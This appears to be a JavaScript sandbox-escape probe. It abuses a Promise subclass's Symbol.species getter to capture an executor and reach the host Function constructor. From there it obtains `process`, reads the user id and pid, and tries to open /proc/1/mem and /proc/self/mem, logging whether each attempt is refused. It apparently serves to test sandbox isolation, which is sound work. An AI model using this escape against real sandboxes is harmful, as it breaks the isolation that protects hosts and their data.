const refused = (what, attempt) => {
  let said = 'DONE';
  try { const value = attempt(); if (value === undefined || value === null) said = 'nothing'; } catch (error) { said = error.code ?? error.name; }
  console.log(what, said);
};

let seen;
class Species extends Promise { static get [Symbol.species]() { return function (executor) { seen = executor; executor(() => {}, () => {}); }; } }
new Species(() => {}).then(() => {});
const reach = seen.constructor('return process')();
const asynchronous = (async () => {}).constructor('return process.getuid()');
asynchronous().then((uid) => {
  console.log(uid, reach.pid > 1, reach.ppid);
  refused('memory of process 1', () => require('fs').openSync('/proc/1/mem', 'r'));
  refused('own memory', () => { require('fs').openSync('/proc/self/mem', 'r'); return null; });
});
